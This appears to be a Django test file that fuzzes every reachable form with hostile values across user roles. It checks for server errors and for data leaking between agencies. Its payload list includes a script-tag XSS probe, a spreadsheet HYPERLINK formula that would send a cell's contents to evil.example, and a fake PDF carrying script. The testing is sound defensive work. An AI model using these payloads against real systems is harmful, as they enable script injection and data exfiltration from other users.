"""Fuzzes every form that each role reaches: the URLs of the authorization walk (the same URL conf and objects),
opened with each role; each form found on a page is posted back with hostile values in its fields.

Checked: no response is a 5xx; no row of agency B changes (agency B's own collaborator is not among the fuzzing
roles); no row ties two agencies together (a worker, a client or a request of one agency on another's record).
To stay fast, each form gets `ROUNDS` posts per role, each field taking a different hostile value in each round.
"""

import itertools

from django import forms
from django.apps import apps
from django.contrib import admin
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db.models import F, ForeignKey
from django.forms.models import model_to_dict
from django.test import Client
from django.urls import reverse

from ale_platform.admin_site import AgenceScopedAdmin
from ale_platform.models import Agence

from .test_walk import MATRIX, MODULES

FUZZ_ROLES = ("anonymous", "client", "prestataire", "collab_a", "conseiller")
ROUNDS = 3
LONG = "é" * 5000
HOSTILE_TEXT = [
    LONG,
    "Zoë 🚀 \u202eeïvoN",
    "a\x00b",
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "-1",
    "0",
    "0.5",
    "-0,75",
    "0001-01-01",
    "1900-01-01",
    "9999-12-31",
    "99999999999999999999",
    "2026-02-30",
    "25:61",
]


def _forms_in(response):
    found, seen = [], set()
    for context in response.context or []:
        for value in context.flatten().values():
            candidates = []
            if isinstance(value, forms.BaseForm):
                candidates = [value]
            elif isinstance(value, forms.BaseFormSet):
                candidates = [value.management_form, *value.forms]
            for form in candidates:
                if id(form) not in seen:
                    seen.add(id(form))
                    found.append(form)
    return found


def _outside_pk(field):
    """The id of a row of the field's model that the form does not offer (another agency's, another client's)."""
    model = field.queryset.model
    row = model._default_manager.exclude(pk__in=field.queryset.values("pk")).order_by("pk").first()
    return row.pk if row is not None else 999_999


def _data(forms_found, round_index):
    data, files = {}, {}
    for form in forms_found:
        for position, (name, field) in enumerate(form.fields.items()):
            key = form.add_prefix(name)
            initial = form[name].value()
            if isinstance(form, forms.formsets.ManagementForm):
                data[key] = initial
                continue
            pick = (round_index * 7 + position) % (len(HOSTILE_TEXT) + 1)
            if isinstance(field, forms.FileField):
                if round_index == 0:
                    files[key] = SimpleUploadedFile("x.pdf", b"<html><script>alert(1)</script></html>")
            elif isinstance(field, forms.ModelChoiceField | forms.ModelMultipleChoiceField) and pick % 2 == 0:
                data[key] = _outside_pk(field)
            elif pick == len(HOSTILE_TEXT):
                data[key] = "" if initial is None else initial  # one field left as the page offered it
            else:
                data[key] = HOSTILE_TEXT[pick]
    return data | files


def _agency_b_rows(agence_b):
    rows = {}
    for model, model_admin in admin.site._registry.items():
        if isinstance(model_admin, AgenceScopedAdmin):
            field = model_admin.agence_field
            qs = model._default_manager.filter(**({"pk": agence_b.pk} if field == "" else {field: agence_b}))
            rows[model._meta.label] = sorted(repr(sorted(model_to_dict(row).items())) for row in qs.distinct())
    return rows


def _cross_agency_rows() -> list[str]:
    """Rows whose own agency differs from the agency of a record they point to."""
    found = []
    for model in apps.get_models():
        names = {f.name for f in model._meta.concrete_fields}
        if "agence" not in names or model._meta.label.startswith(("simple_history", "Historical")):
            continue
        for field in model._meta.concrete_fields:
            if (
                isinstance(field, ForeignKey)
                and field.related_model is not Agence
                and "agence" in {f.name for f in field.related_model._meta.concrete_fields}
            ):
                bad = model._default_manager.exclude(**{f"{field.name}__isnull": True}).exclude(
                    **{f"{field.name}__agence": F("agence")}
                )
                found += [f"{model._meta.label} #{pk} ({field.name})" for pk in bad.values_list("pk", flat=True)]
    return found


def test_every_reachable_form_survives_hostile_values(world):
    for module in MODULES:
        if hasattr(module, "populate"):
            module.populate(world)
    before_b = _agency_b_rows(world.agence_b)
    assert _cross_agency_rows() == []
    clients = {}
    for role in FUZZ_ROLES:
        clients[role] = Client(raise_request_exception=False)
        if world.users[role] is not None:
            clients[role].force_login(world.users[role])
    failures, fuzzed = [], 0
    for url_name, role in itertools.product(sorted(MATRIX), FUZZ_ROLES):
        url = reverse(url_name, kwargs=MATRIX[url_name].kwargs(world))
        page = clients[role].get(url)
        if page.status_code >= 500:
            failures.append(f"{role} GET {url}: {page.status_code}")
        if page.status_code != 200 or page.get("Content-Type", "").split(";")[0] != "text/html":
            continue
        found = _forms_in(page)
        if not found:
            continue
        fuzzed += 1
        for round_index in range(ROUNDS):
            response = clients[role].post(url, _data(found, round_index))
            if response.status_code >= 500:
                failures.append(f"{role} POST {url} (round {round_index}): {response.status_code}")
    assert fuzzed >= 20, f"only {fuzzed} forms found: is the walk still finding the pages' forms?"
    assert not failures, "\n".join(failures)
    after_b = _agency_b_rows(world.agence_b)
    changed = [label for label in before_b if before_b[label] != after_b[label]]
    assert changed == [], f"agency B rows changed by other agencies' users: {changed}"
    assert _cross_agency_rows() == []
